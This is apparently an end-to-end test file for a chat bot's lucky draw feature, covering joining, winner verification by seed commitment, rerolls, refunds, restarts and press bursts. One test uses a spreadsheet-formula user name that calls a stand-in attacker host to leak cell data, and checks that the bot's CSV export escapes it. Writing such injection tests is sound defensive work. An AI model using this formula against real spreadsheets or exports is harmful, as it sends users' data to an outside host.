"""Lucky draws through the sandbox: open, join by button, end, verify, cancel, restart."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import re
import subprocess
import sys
import time

from sqlalchemy import select

from models import Draw, create_engine
from sandbox.client import Event, Group, SandboxClient, User
from services.draw_fairness import choose_winners
from services.paced_edits import COUNT_EDIT_EVERY as EDIT_EVERY
from tests.e2e.conftest import Launch


async def fan_group(sandbox: SandboxClient, fans: int) -> tuple[Group, User, list[User]]:
    admin = await sandbox.create_user("Ada", None, "en")
    members = [await sandbox.create_user(f"Fan{n}", None, "en") for n in range(fans)]
    group = await sandbox.create_group(creator=admin, members=members)
    await sandbox.ask(group, admin, "/settings language en")  # draw posts speak to the group
    return group, admin, members


async def open_draw(sandbox: SandboxClient, group: Group, admin: User, args: str) -> Event:
    """The draw's post (the bot posts it rather than replying to the command)."""
    await sandbox.send(group, admin, f"/draw {args}")
    (post,) = await sandbox.wait_for(
        lambda e: e["kind"] == "sent" and e["chat_id"] == group.id and "Lucky draw" in e["text"]
    )
    return post


async def press(
    sandbox: SandboxClient, group: Group, post: Event, fan: User, stale: bool = False
) -> str:
    """Press the post's button as first posted (`stale`: the post has lost it since)."""
    (button,) = post["reply_markup"]["inline_keyboard"][0]
    await sandbox.press(group.id, post["message_id"], fan, button["callback_data"], forge=stale)
    (toast,) = await sandbox.wait_for(lambda e: e["kind"] == "answered")
    return str(toast["text"])


def draw_id(post: Event) -> int:
    found = re.search(r"Lucky draw #(\d+)", post["text"])
    assert found is not None
    return int(found[1])


async def result_of(sandbox: SandboxClient, group: Group, timeout: float = 15) -> Event:
    (result,) = await sandbox.wait_for(
        lambda e: e["kind"] == "sent" and e["chat_id"] == group.id and "has ended" in e["text"],
        timeout,
    )
    return result


async def test_a_draw_from_post_to_verified_winners(sandbox: SandboxClient) -> None:
    group, admin, fans = await fan_group(sandbox, 3)
    post = await open_draw(sandbox, group, admin, "Hoodie size M winners=2 ends=2h")
    lines = post["text"].splitlines()
    assert lines[0] == f"🎁 Lucky draw #{draw_id(post)}: Hoodie size M"
    assert lines[1].startswith("Winners: 2 · Ends: ")
    assert "Entrants: 0" in lines
    commitment = lines[-1].removeprefix("Seed commitment (SHA-256): ")
    assert post["reply_markup"]["inline_keyboard"][0][0]["text"] == "参加 / Join"
    for fan in fans:
        assert await press(sandbox, group, post, fan) == (
            f"✅ You're in draw #{draw_id(post)}! Good luck."
        )
    assert await press(sandbox, group, post, fans[0]) == "You've already joined this draw."
    edits = await sandbox.wait_for(
        lambda e: e["kind"] == "edited" and "Entrants: 3" in (e["text"] or ""), timeout=12
    )
    assert edits[0]["message_id"] == post["message_id"]

    await sandbox.send(group, admin, f"/draw end {draw_id(post)}")
    result = await result_of(sandbox, group)
    assert result["reply_to"] == post["message_id"]
    seed = re.search(r"Seed: (\w+)", result["text"])
    assert seed is not None
    assert hashlib.sha256(bytes.fromhex(seed[1])).hexdigest() == commitment
    winners, _ = choose_winners(seed[1], [fan.id for fan in fans], 2)  # anyone can redo it
    names = {fan.id: fan.first_name for fan in fans}
    assert result["text"].splitlines()[2:4] == [
        f"{place}. {names[user]}" for place, user in enumerate(winners, start=1)
    ]
    assert await press(sandbox, group, post, fans[0], stale=True) == "This draw has ended."
    again = await sandbox.ask(group, admin, f"/draw end {draw_id(post)}")
    assert again["text"] == f"Draw #{draw_id(post)} has already ended."

    # The first winner claims; a reroll replaces the other, with the one entrant left.
    loser = next(fan for fan in fans if fan.id not in winners)
    first, second = (next(fan for fan in fans if fan.id == w) for w in winners)
    assert await press(sandbox, group, result, loser) == "Only this draw's winners can claim."
    assert await press(sandbox, group, result, first) == (
        "🎉 Claimed! An admin will contact you about your prize."
    )
    before = sandbox.cursor
    rerolled = await sandbox.ask(group, admin, f"/draw reroll {draw_id(post)}")
    assert rerolled["text"].startswith(f"🔁 Draw #{draw_id(post)}: 1 winner replaced")
    sandbox.cursor = before  # the result post's edit (by the outbox) may come before the reply

    def rerolled_result(event: Event) -> bool:
        return (
            event["kind"] == "edited"
            and event["message_id"] == result["message_id"]
            and loser.first_name in event["text"]
        )

    (edit,) = await sandbox.wait_for(rerolled_result)
    assert edit["text"].splitlines()[2:4] == [
        f"1. {first.first_name} ✅",
        f"2. {loser.first_name}",
    ]
    assert second.first_name not in edit["text"]
    nobody = await sandbox.ask(group, admin, f"/draw reroll {draw_id(post)} 1")
    assert nobody["text"] == f"Nobody is left in draw #{draw_id(post)} who has not won: no reroll."
    verified = await sandbox.ask(group, fans[1], f"/verify {draw_id(post)}")
    assert verified["text"].startswith(f"✅ Draw #{draw_id(post)} checks out")

    listing = await sandbox.ask(group, fans[1], f"/draw entrants {draw_id(post)}")
    assert listing["text"] == f"Draw #{draw_id(post)}: 3 entrants, sorted by user id."
    content = (await sandbox.file(listing["document"]["file_id"])).decode()
    assert content.startswith("\ufeffuser_id,name,username,joined_at_utc")
    rows = [line.split(",")[:2] for line in content.splitlines()[1:]]
    assert rows == [[str(fan.id), fan.first_name] for fan in sorted(fans, key=lambda f: f.id)]


async def test_draw_entrants_write_a_name_like_a_formula_as_text(sandbox: SandboxClient) -> None:
    """The list is posted for anyone to open: a name is never a live spreadsheet formula."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    admin = await sandbox.create_user("Ada", None, "en")
    fan = await sandbox.create_user(formula, None, "en")
    group = await sandbox.create_group(creator=admin, members=[fan])
    await sandbox.ask(group, admin, "/settings language en")
    post = await open_draw(sandbox, group, admin, "Mug winners=1 ends=2h")
    assert (await press(sandbox, group, post, fan)).startswith("✅ You're in draw")
    listing = await sandbox.ask(group, fan, f"/draw entrants {draw_id(post)}")
    content = (await sandbox.file(listing["document"]["file_id"])).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert rows[1][:2] == [str(fan.id), "'" + formula]


async def test_bad_input_and_members_cannot_run_draws(sandbox: SandboxClient) -> None:
    group, admin, (fan,) = await fan_group(sandbox, 1)
    zero = await sandbox.ask(group, admin, "/draw Mug winners=0")
    assert zero["text"].splitlines()[0] == "Winners must be a number from 1 to 100."
    assert zero["text"].splitlines()[1].startswith("Usage: /draw <prize>")
    past = await sandbox.ask(group, admin, "/draw Mug ends=2020-01-01 10:00")
    assert past["text"].startswith("The end must be 10 s to 90 days from now")
    tier = await sandbox.ask(group, admin, "/draw Mug min_tier=Platinum")
    assert tier["text"].startswith("There is no such tier.")
    refused = await sandbox.ask_for_sender(group, fan, "/draw Free phone")
    assert refused["text"] == "Sorry, only the group's admins can use this command."
    assert (await sandbox.ask(group, fan, "/draws"))["text"] == "No open draws right now."
    secret = await sandbox.ask(group, fan, "/verify 999999")
    assert secret["text"] == "There is no draw #999999 in this group."
    post = await open_draw(sandbox, group, admin, "Mug")
    (button,) = post["reply_markup"]["inline_keyboard"][0]
    await sandbox.press(group.id, post["message_id"], fan, "draw:999999", forge=True)
    (forged,) = await sandbox.wait_for(lambda e: e["kind"] == "answered")
    assert forged["text"] == "This draw doesn't exist."
    listed = (await sandbox.ask(group, fan, "/draws"))["text"].splitlines()
    assert listed[0] == "🎁 Open draws"
    assert listed[1].startswith(f"#{draw_id(post)} Mug — 0 entrants, ends ")
    early = await sandbox.ask(group, fan, f"/verify {draw_id(post)}")
    assert early["text"] == f"Draw #{draw_id(post)} has not ended yet: its seed is still secret."
    assert button["callback_data"] == f"draw:{draw_id(post)}"


async def test_requirements_entry_cost_and_cancel_refunds(sandbox: SandboxClient) -> None:
    group, admin, (rich, poor) = await fan_group(sandbox, 2)
    await sandbox.ask_for_sender(
        group, rich, "/me"
    )  # admins give points to members the bot has seen
    gift = await sandbox.ask(group, admin, f"/points {rich.id} +50 gift")
    assert gift["text"].startswith("✅")
    post = await open_draw(sandbox, group, admin, "Gift card cost=20 min_points=30")
    assert "Requirements: 30+ points" in post["text"]
    assert "Entry: 20 points" in post["text"]
    assert await press(sandbox, group, post, rich) == (
        f"✅ You're in draw #{draw_id(post)}! Good luck. -20 points, balance 30."
    )
    assert await press(sandbox, group, post, poor) == "Sorry, this draw needs: 30+ points."
    cancelled = await sandbox.ask(group, admin, f"/draw cancel {draw_id(post)}")
    assert cancelled["text"] == f"❌ Draw #{draw_id(post)} cancelled; 1 entry cost refunded."
    me = await sandbox.ask_for_sender(group, rich, "/me")
    assert "💰 Points: 50 (lifetime 50)" in me["text"]
    assert await press(sandbox, group, post, poor, stale=True) == "This draw has ended."


async def test_a_draw_that_ends_while_the_bot_is_down_ends_at_start_up(launch: Launch) -> None:
    sandbox, bot = await launch()
    group, admin, fans = await fan_group(sandbox, 2)
    post = await open_draw(sandbox, group, admin, "Sticker pack ends=10s")
    ends = time.monotonic() + 10
    for fan in fans:
        await press(sandbox, group, post, fan)
    assert bot.stop() == 0
    await asyncio.sleep(ends - time.monotonic())
    bot.start()
    await bot.wait_ready()
    result = await result_of(sandbox, group, timeout=20)
    assert result["text"].splitlines()[1] == "🎉 Winners (press Claim to collect):"
    assert "2 entrants" in result["text"]
    checked = await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-m", "bot", "verify-draw", str(draw_id(post))],
        env=bot.env, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert checked.returncode == 0, checked.stderr
    assert checked.stdout.splitlines()[-1] == "ok: the winners follow from the seed"
    nobody = await open_draw(sandbox, group, admin, "Keyring ends=10s")  # ends with the bot up
    ended = await result_of(sandbox, group, timeout=25)
    assert ended["text"].splitlines() == [
        f"🏁 Draw #{draw_id(nobody)} has ended: Keyring",
        "No entrants, so no winners.",
    ]


async def test_draw_without_arguments_asks_step_by_step(sandbox: SandboxClient) -> None:
    group, admin, (fan,) = await fan_group(sandbox, 1)
    asked = await sandbox.ask(group, admin, "/draw")
    assert asked["text"] == "🎁 New draw. What's the prize? Reply to this message with it."
    assert asked["reply_markup"]["force_reply"] is True
    answer = await sandbox.send(group, admin, "Limited tote bag", reply_to=asked["message_id"])
    winners = await sandbox.reply_to(group.id, answer["message"]["message_id"])
    assert winners["text"] == "How many winners?"
    buttons = winners["reply_markup"]["inline_keyboard"]
    assert [b["text"] for b in buttons[0]] == ["1", "3", "5", "10"]
    await sandbox.press(group.id, winners["message_id"], fan, buttons[0][1]["callback_data"])
    (toast,) = await sandbox.wait_for(lambda e: e["kind"] == "answered")
    assert toast["text"] == "This isn't your draw dialogue (or it is over)."
    await sandbox.press(group.id, winners["message_id"], admin, buttons[0][1]["callback_data"])
    (ends,) = await sandbox.wait_for(lambda e: e["kind"] == "edited")
    assert ends["text"] == "When does it end?"
    (choice,) = [b for b in ends["reply_markup"]["inline_keyboard"][0] if b["text"] == "2 hours"]
    assert [b["text"] for b in ends["reply_markup"]["inline_keyboard"][0]] == [
        "30 minutes",
        "2 hours",
        "24 hours",
        "3 days",
    ]
    await sandbox.press(group.id, winners["message_id"], admin, choice["callback_data"])
    post, done = await sandbox.wait_for_each(  # the post, by the outbox, may come second
        lambda e: e["kind"] == "sent" and "Lucky draw" in (e["text"] or ""),
        lambda e: e["kind"] == "edited",
    )
    assert post["text"].splitlines()[0].endswith(": Limited tote bag")
    assert post["text"].splitlines()[1].startswith("Winners: 3 · Ends: ")
    assert done["text"] == f"✅ Draw #{draw_id(post)} is open."
    again = await sandbox.ask(group, admin, "/draw")
    answer = await sandbox.send(group, admin, "Mug", reply_to=again["message_id"])
    winners = await sandbox.reply_to(group.id, answer["message"]["message_id"])
    (cancel,) = winners["reply_markup"]["inline_keyboard"][1]
    await sandbox.press(group.id, winners["message_id"], admin, cancel["callback_data"])
    (cancelled,) = await sandbox.wait_for(lambda e: e["kind"] == "edited")
    assert cancelled["text"] == "Cancelled: no draw was opened."
    assert (await sandbox.ask(group, fan, "/draws"))["text"].count("\n") == 1  # the tote bag only


async def test_a_kill_between_choosing_and_posting_posts_the_same_winners(launch: Launch) -> None:
    sandbox, bot = await launch()
    group, admin, fans = await fan_group(sandbox, 4)
    post = await open_draw(sandbox, group, admin, "Poster winners=2")
    for fan in fans:
        await press(sandbox, group, post, fan)
    await sandbox.add_fault("hang", "sendMessage", chat_id=group.id)  # the result never arrives
    await sandbox.send(group, admin, f"/draw end {draw_id(post)}")
    await sandbox.wait_for(lambda e: e["kind"] == "fault" and e["method"] == "sendMessage")
    bot.kill()  # the winners are committed, their post is not
    stored, posted = await stored_result(bot.env["DATABASE_URL"], draw_id(post))
    assert len(stored) == 2
    assert posted is None
    bot.start()
    await bot.wait_ready()
    result = await result_of(sandbox, group, timeout=20)
    names = {fan.id: fan.first_name for fan in fans}
    assert result["text"].splitlines()[2:4] == [
        f"{place}. {names[user]}" for place, user in enumerate(stored, start=1)
    ]
    await sandbox.settle()
    for _ in range(100):  # the post is stored right after it is sent
        if (await stored_result(bot.env["DATABASE_URL"], draw_id(post)))[1] is not None:
            break
        await asyncio.sleep(0.1)
    else:
        raise AssertionError("the result post was never recorded")


async def stored_result(database_url: str, draw: int) -> tuple[list[int], int | None]:
    """The winners in the database, and the result post's id (None: not posted)."""
    engine = create_engine(database_url)
    try:
        async with engine.connect() as connection:
            row = (
                await connection.execute(
                    select(Draw.winner_ids, Draw.result_message_id).where(Draw.id == draw)
                )
            ).one()
            return list(row.winner_ids), row.result_message_id
    finally:
        await engine.dispose()


async def test_a_burst_of_presses_with_telegram_limits_on(sandbox: SandboxClient) -> None:
    """2,500 presses by 1,500 members: 1,500 entries, the count right on the post within 5 s of
    the burst's end, and no 429 (bench/draws.py measures the rate at 5,000 presses)."""
    admin = await sandbox.create_user("Ada", None, "en")
    fans = list(
        await asyncio.gather(*(sandbox.create_user(f"Fan{n}", None, "en") for n in range(1500)))
    )
    group = await sandbox.create_group(creator=admin, members=fans)
    await sandbox.ask(group, admin, "/settings language en")
    await sandbox.set_limits(enabled=True)
    try:
        post = await open_draw(sandbox, group, admin, "Signed poster winners=3")
        (button,) = post["reply_markup"]["inline_keyboard"][0]
        pressers = fans + fans[:1000]  # 1,000 of them press twice
        before, started = sandbox.cursor, time.monotonic()
        for start in range(0, len(pressers), 250):
            await asyncio.gather(
                *(
                    sandbox.press(group.id, post["message_id"], fan, button["callback_data"])
                    for fan in pressers[start : start + 250]
                )
            )
        toasts = await sandbox.wait_for(lambda e: e["kind"] == "answered", 120, len(pressers))
        joined = [t for t in toasts if t["text"].startswith("✅ You're in")]
        assert len(joined) == 1500
        assert len(toasts) - len(joined) == 1000  # "already joined"
        deadline = time.monotonic() + EDIT_EVERY + 10  # the edit of the burst's last 5 s
        while True:
            counts = [e["text"] for e in await sandbox.events(before) if e["kind"] == "edited"]
            if (counts and "Entrants: 1,500" in counts[-1]) or time.monotonic() > deadline:
                break
            await asyncio.sleep(0.5)
        assert "Entrants: 1,500" in counts[-1], counts[-1]
        # throttled: one edit per 5 s at most, whatever the rate of presses
        assert len(counts) <= (time.monotonic() - started) / EDIT_EVERY + 1
        assert (await sandbox.stats())["rejected_429"] == 0
    finally:
        await sandbox.set_limits(enabled=False)
